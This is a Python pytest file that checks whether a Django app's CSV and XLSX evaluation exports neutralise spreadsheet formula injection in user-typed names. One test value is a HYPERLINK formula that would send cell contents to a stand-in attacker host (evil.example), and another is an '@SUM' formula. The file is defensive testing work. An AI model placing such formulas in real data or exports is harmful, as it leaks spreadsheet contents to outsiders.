"""The evaluation exports are read in spreadsheet programs: text a user typed (a round's name,
a municipality's name) never becomes a formula there (issue 10, defect 6)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from accounts_helpers import login_client
from passgenau.apps.accounts.models import Organisation
from passgenau.apps.relocation.models import Round
from relocation_helpers import user
from relocation_matching_helpers import arrived_proposal

pytestmark = pytest.mark.django_db

TRAP = '=HYPERLINK("http://evil.example/?leak="&A2,"open")'


def _export(fmt: str) -> bytes:
    proposal = arrived_proposal()
    Round.objects.filter(pk=proposal.run.round_id).update(name=TRAP)
    Organisation.objects.filter(pk=proposal.municipality_id).update(name="@SUM(1+1)")
    client = login_client(Client(), user("coordinator"))
    response = client.get(reverse("relocation:evaluation_export", args=[fmt]))
    assert response.status_code == 200
    return response.content


def test_evaluation_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(_export("csv").decode("utf-8-sig"))))
    assert len(rows) == 4  # the header and the three waves of the one placed household
    for row in rows[1:]:
        assert row[1] == "'" + TRAP
        assert row[2] == "'@SUM(1+1)"
        assert row[3].isdigit()  # numbers stay numbers


def test_evaluation_xlsx_neutralises_formulas():
    sheet = load_workbook(io.BytesIO(_export("xlsx"))).active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 3
    for row in rows:
        assert row[1].data_type == "s" and row[1].value == "'" + TRAP
        assert row[2].value == "'@SUM(1+1)"
        assert isinstance(row[3].value, int)
